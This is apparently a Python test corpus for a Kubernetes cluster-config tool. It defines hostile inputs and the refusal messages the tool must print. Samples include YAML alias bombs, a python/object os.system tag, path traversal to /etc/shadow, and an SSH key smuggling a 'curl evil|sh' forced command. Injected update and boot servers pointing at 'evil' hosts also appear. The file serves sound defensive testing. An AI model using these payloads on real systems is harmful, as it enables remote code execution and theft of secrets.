"""The hostile corpus: cluster files, snippets, paths and workdirs a hostile but honest user
might hand railyard, each with the exit code and message fragment railyard must answer with.

Each case is data: the cluster file (a change to BASE or a whole text), extra files in the
cluster's directory or outside it, the command, and what must (and must not) be printed.
Files that cannot live in git (FIFOs, symlinks, 20 MB, invalid UTF-8) are made by `setup`.
"""

from __future__ import annotations

import os
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

# A valid aws cluster: `railyard render` of it succeeds without terraform.
BASE = """\
name: demo
platform: aws
ssh_authorized_keys: ["ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGc4 demo"]
aws:
  region: eu-central-1
  dns_zone: example.com
  dns_zone_id: Z123ABC
  ssh_cidrs: [203.0.113.0/24]
controllers:
  count: 1
worker_pools:
  - name: general
    count: 2
"""

METAL = """\
name: metal
platform: bare-metal
bare_metal:
  matchbox_http_endpoint: http://matchbox.example.com:8080
  matchbox_rpc_endpoint: matchbox.example.com:8081
  matchbox_client_cert: tls/client.crt
  matchbox_client_key: tls/client.key
  matchbox_ca: tls/ca.crt
  k8s_domain_name: node1.example.com
  controllers:
    - {name: node1, mac: "52:54:00:a1:9c:ae", domain: node1.example.com}
"""
METAL_TLS = {"tls/client.crt": "cert", "tls/client.key": "key", "tls/ca.crt": "ca"}

# Text no message may ever show: it stands for the content of a file railyard refused.
SECRET = "hostile-corpus-secret-7d1f0c"

Setup = Callable[[Path, Path], None]  # (cluster directory, a directory outside its tree)


@dataclass(frozen=True)
class Case:
    name: str
    cluster: str | bytes
    expect: str  # a fragment of stderr (exit 1) or of the rendered backend.hcl (exit 0)
    code: int = 1
    files: dict[str, str] = field(default_factory=dict)  # relative to the cluster file
    setup: Setup | None = None
    args: tuple[str, ...] = ("render", "--workdir", "work")
    env: dict[str, str] = field(default_factory=dict)  # OUTSIDE is replaced by its path


def edit(old: str, new: str, base: str = BASE) -> str:
    assert old in base, old
    return base.replace(old, new, 1)


def with_snippet(ref: str) -> str:
    return edit("  count: 1\n", f"  count: 1\n  snippets: [{ref}]\n")


def with_backend(config: str) -> str:
    return BASE + f"terraform:\n  backend:\n    type: s3\n    config: {config}\n"


def _outside_secret(_: Path, outside: Path) -> None:
    (outside / "secret.yaml").write_text(f"{SECRET}: true\n")


def _symlink_out(directory: Path, outside: Path) -> None:
    _outside_secret(directory, outside)
    (directory / "link.yaml").symlink_to(outside / "secret.yaml")


def _fifo(directory: Path, _: Path) -> None:
    os.mkfifo(directory / "fifo.yaml")


def _zero_link(directory: Path, _: Path) -> None:
    (directory / "zero.yaml").symlink_to("/dev/zero")


def _big(directory: Path, _: Path) -> None:
    (directory / "big.yaml").write_text("# " + "x" * (20 * 1024 * 1024) + "\n")


def _binary(directory: Path, _: Path) -> None:
    (directory / "binary.yaml").write_bytes(b"storage:\n  files: \xff\xfe\x00\x01\n")


def _cluster_fifo(directory: Path, _: Path) -> None:
    (directory / "cluster.yaml").unlink()
    os.mkfifo(directory / "cluster.yaml")


def _workdir_file(directory: Path, _: Path) -> None:
    (directory / "work").write_text("not a directory\n")


def _foreign_project(directory: Path, _: Path) -> None:
    (directory / "work").mkdir()
    (directory / "work" / "main.tf").write_text(f"# {SECRET}: someone's project\n")


def _metadata(text: str) -> Setup:
    def setup(directory: Path, _: Path) -> None:
        (directory / "work").mkdir()
        (directory / "work" / ".railyard.json").write_text(text)

    return setup


ALIAS_BOMB = "a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 10)}]\n" for i in range(1, 9)
)

CASES = [
    # -- malformed YAML ------------------------------------------------------------------
    Case("alias bomb", ALIAS_BOMB, "cluster.yaml:5:5: YAML refused: more than 100000 values"),
    Case("a flat list of 400 000 values", "a: [" + ",".join(["1"] * 400_000) + "]\n", "YAML refused: more than 100000 values"),
    Case("deep nesting", "a: " + "[" * 5000 + "]" * 5000 + "\n", "nesting deeper than 32"),
    Case("recursive alias", "a: &a [*a]\n", "an alias refers to a value that contains it"),
    Case("binary tag", edit("name: demo", "name: !!binary ZGVtbw=="), "!!binary is not allowed"),
    Case("custom tag", edit("name: demo", "name: !Ref demo"), "tag !Ref is not allowed"),
    Case(
        "python tag",
        edit("name: demo", 'name: !!python/object/apply:os.system ["true"]'),
        "!!python/object/apply:os.system is not allowed",
    ),
    Case("set tag", edit("  count: 1\n", "  count: !!set {1: null}\n"), "!!set is not allowed"),
    Case("date stays text", edit("name: demo\n", "name: demo\nversion: 2024-01-01\n"), "version"),
    Case(
        "merge key",
        "base: &b {name: demo}\n<<: *b\nplatform: aws\n",
        "cluster.yaml:2:1: YAML refused: merge keys (<<)",
    ),
    Case("complex key", "? [name]\n: demo\n", "a key must be plain text"),
    Case("boolean key", BASE + "yes: 1\n", "the key 'yes' reads as bool, not text: quote it"),
    Case(
        "NUL byte",
        b"name: demo\x00\n",
        "cluster.yaml:1:11: YAML cannot hold the control character U+0000",
    ),
    Case("control byte", b'name: "de\x07mo"\n', "control character U+0007"),
    Case(
        "latin-1",
        "name: d\xe9mo\n".encode("latin-1"),
        "cluster.yaml:1:8: cluster file is not UTF-8",
    ),
    Case("duplicate key", BASE + "name: other\n", "duplicate key 'name'"),
    Case("two documents", BASE + "---\nname: other\n", "expected a single document in the stream, but found another document"),
    Case("empty file", "", "the cluster file must be a YAML mapping"),
    Case("a list", "- name: demo\n", "the cluster file must be a YAML mapping"),
    Case("larger than 1 MiB", BASE + "#" + "x" * (1024 * 1024) + "\n", "larger than 1024 KiB"),
    Case("cluster file a FIFO", BASE, "is not a regular file", setup=_cluster_fifo),
    Case(
        "cluster file /dev/zero", BASE, "is not a regular file", args=("render", "-c", "/dev/zero")
    ),
    Case("cluster file a directory", BASE, "is not a regular file", args=("render", "-c", ".")),
    Case("bad YAML syntax", "name: [demo\n", "YAML syntax error"),
    Case("bad !!int", edit("  count: 1\n", "  count: !!int one\n"), "YAML value error"),
    # -- wrong types ---------------------------------------------------------------------
    Case(
        "bool for int",
        edit("  count: 1\n", "  count: true\n"),
        "controllers.count: must be a whole number",
    ),
    Case(
        "string for int",
        edit("    count: 2\n", '    count: "2"\n'),
        "worker_pools[0].count: must be a whole number",
    ),
    Case("float for int", edit("    count: 2\n", "    count: 2.5\n"), "must be a whole number"),
    Case(
        "inf price",
        edit("    count: 2\n", "    count: 2\n    spot_price: .inf\n"),
        "spot_price: must be a finite number",
    ),
    Case(
        "nan price",
        edit("    count: 2\n", "    count: 2\n    spot_price: .nan\n"),
        "must be a finite number",
    ),
    Case("string for bool", BASE + "sandbox: 'yes'\n", "sandbox: must be true or false"),
    Case("int for string", edit("name: demo", "name: 123"), "name: must be a string"),
    Case("null for list", edit("  count: 1\n", "  count: 1\n  snippets: ~\n"), "must be a list"),
    # -- values that reach HCL, units, kernel command lines, labels ---------------------
    Case(
        "label value with ${}",
        edit("    count: 2\n", "    count: 2\n    labels: {tier: '${file(\"/etc/passwd\")}'}\n"),
        "is not a Kubernetes label value",
    ),
    Case(
        "label value with a newline",
        edit("    count: 2\n", '    count: 2\n    labels: {tier: "a\\nb"}\n'),
        "worker_pools[0].labels.tier: holds a control character (U+000A)",
    ),
    Case(
        "label key with a newline",
        edit("    count: 2\n", '    count: 2\n    labels: {"a\\nb": x}\n'),
        "holds a control character",
    ),
    Case(
        "taint with a newline",
        edit("    count: 2\n", '    count: 2\n    taints: ["a=b:NoSchedule\\n"]\n'),
        "holds a control character",
    ),
    Case(
        "kubelet flag with a space",
        BASE + "kubelet:\n  extra_args: ['--v=2 --anonymous-auth=true']\n",
        "kubelet.extra_args: '--v=2 --anonymous-auth=true' is not one flag",
    ),
    Case(
        "kubelet flag with a systemd specifier",
        BASE + "kubelet:\n  extra_args: ['--root-dir=%h']\n",
        "is not one flag",
    ),
    Case(
        "SSH key with a forced command",
        edit(
            '["ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGc4 demo"]',
            '["ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGc4 demo\\ncommand=\\"curl evil|sh\\" ssh-ed25519 AAAA"]',
        ),
        "ssh_authorized_keys[0]: holds a control character (U+000A)",
    ),
    Case(
        "SSH key with options",
        edit(
            '["ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGc4 demo"]',
            "['command=\"sh\" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGc4 demo']",
        ),
        "is not an OpenSSH public key",
    ),
    Case(
        "backend key with a newline",
        with_backend('{"bucket\\nendpoint": x}'),
        "holds a control character",
    ),
    Case(
        "backend map key with a newline",
        with_backend('{assume_role: {"role_arn\\nx": y}}'),
        "holds a control character",
    ),
    Case(
        "backend value with ${} stays data",
        with_backend('{bucket: "${file(\\"/etc/passwd\\")}\\nendpoint = \\"x\\""}'),
        'bucket = "$${file(\\"/etc/passwd\\")}\\nendpoint = \\"x\\""',
        code=0,
    ),
    Case(
        "aws tag with a newline",
        edit("  ssh_cidrs:", '  tags: {team: "a\\nb"}\n  ssh_cidrs:'),
        "holds a control character",
    ),
    Case(
        "CLC update.group with a newline",
        with_snippet("update.yaml"),
        "update.yaml:2:10: update.group: holds a control character (U+000A)",
        files={"update.yaml": 'update:\n  group: "stable\\nSERVER=https://evil"\n'},
    ),
    Case(
        "CLC file path with a newline",
        with_snippet("files.yaml"),
        "holds a control character",
        files={
            "files.yaml": 'storage:\n  files:\n    - path: "/etc/a\\nb"\n      filesystem: root\n'
        },
    ),
    Case(
        "kernel args with a newline",
        edit(
            "  k8s_domain_name:",
            '  kernel_args: ["console=ttyS0\\nchain http://evil"]\n  k8s_domain_name:',
            METAL,
        ),
        "bare_metal.kernel_args[0]: holds a control character",
        files=METAL_TLS,
    ),
    Case(
        "kernel args with ${}",
        edit(
            "  k8s_domain_name:", '  kernel_args: ["x=${next-server}"]\n  k8s_domain_name:', METAL
        ),
        "is not one kernel argument",
        files=METAL_TLS,
    ),
    Case(
        "MAC with a newline",
        edit("52:54:00:a1:9c:ae", "52:54:00:a1:9c:ae\\n", METAL).replace('"52', '"52'),
        "is not a MAC address",
        files=METAL_TLS,
    ),
    Case(
        "missing matchbox CA",
        METAL,
        "bare_metal.matchbox_ca: 'tls/ca.crt' is not a file",
        files={"tls/client.crt": "c", "tls/client.key": "k"},
    ),
    # -- snippet and secret paths -------------------------------------------------------
    Case("snippet ..", with_snippet("../outside/secret.yaml"), "outside", setup=_outside_secret),
    Case(
        "snippet absolute",
        with_snippet("/etc/shadow"),
        "'/etc/shadow' resolves to /etc/shadow, outside",
    ),
    Case("snippet symlink out", with_snippet("link.yaml"), "outside", setup=_symlink_out),
    Case("snippet FIFO", with_snippet("fifo.yaml"), "snippet file", setup=_fifo),
    Case("snippet /dev/zero", with_snippet("zero.yaml"), "outside", setup=_zero_link),
    Case(
        "snippet /dev/zero, /dev trusted",
        with_snippet("zero.yaml"),
        "is not a regular file",
        setup=_zero_link,
        env={"RAILYARD_ALLOWED_PATHS": "/dev"},
    ),
    Case("snippet NUL in path", with_snippet('"snip\\0pet.yaml"'), "path holds a NUL character"),
    Case("snippet 20 MB", with_snippet("big.yaml"), "larger than 256 KiB", setup=_big),
    Case(
        "snippet binary",
        with_snippet("binary.yaml"),
        "binary.yaml:2:10: snippet file is not UTF-8",
        setup=_binary,
    ),
    Case(
        "snippet alias bomb",
        with_snippet("bomb.yaml"),
        "bomb.yaml:5:5: YAML refused: more than 100000 values",
        files={"bomb.yaml": ALIAS_BOMB},
    ),
    Case("snippet deep nesting", with_snippet("deep.yaml"), "deep.yaml:1:35: YAML refused: nesting", files={"deep.yaml": "a: " + "[" * 100 + "]" * 100 + "\n"}),
    Case("snippet missing", with_snippet("nope.yaml"), "snippet file 'nope.yaml' does not exist"),
    Case(
        "snippet outside, trusted",
        with_snippet("OUTSIDE/ok.yaml"),
        "",
        code=0,
        setup=lambda _, outside: (outside / "ok.yaml").write_text("storage: {}\n"),
        env={"RAILYARD_ALLOWED_PATHS": "OUTSIDE"},
    ),
    Case(
        "from_file outside",
        with_backend("{secret_key: {from_file: ../outside/secret.yaml}}"),
        "terraform.backend.config.secret_key file '../outside/secret.yaml' resolves to",
        setup=_outside_secret,
    ),
    Case(
        "from_file FIFO",
        with_backend("{secret_key: {from_file: fifo.yaml}}"),
        "is not a regular file",
        setup=_fifo,
    ),
    Case(
        "inline secret",
        with_backend("{secret_key: hunter2}"),
        "looks like a secret and is written inline",
    ),
    # -- terraform.binary ----------------------------------------------------------------
    Case(
        "binary a shell",
        BASE + "terraform:\n  binary: /bin/sh\n",
        "terraform.binary: must be one of: terraform or tofu",
    ),
    Case(
        "binary a script",
        BASE + "terraform:\n  binary: ./evil.sh\n",
        "must be one of: terraform or tofu",
    ),
    # -- workdirs ------------------------------------------------------------------------
    Case("workdir a file", BASE, "the workdir work is not a directory", setup=_workdir_file),
    Case(
        "workdir someone's project",
        BASE,
        "holds files and is not a railyard workspace",
        setup=_foreign_project,
    ),
    Case(
        "workdir in /proc",
        BASE,
        "/proc/1/railyard-work",
        args=("render", "--workdir", "/proc/1/railyard-work"),
    ),
    Case(
        "corrupt metadata", BASE, "workspace metadata is unreadable", setup=_metadata("{not json")
    ),
    Case(
        "metadata from a release candidate",
        BASE,
        "",
        code=0,
        setup=_metadata('{"railyard_version": "0.1.0rc1", "workspace_format": 1}'),
    ),
    Case(
        "metadata from a newer railyard",
        BASE,
        "written by railyard 9.0.0, newer than this railyard",
        setup=_metadata('{"railyard_version": "9.0.0", "workspace_format": 1}'),
    ),
]
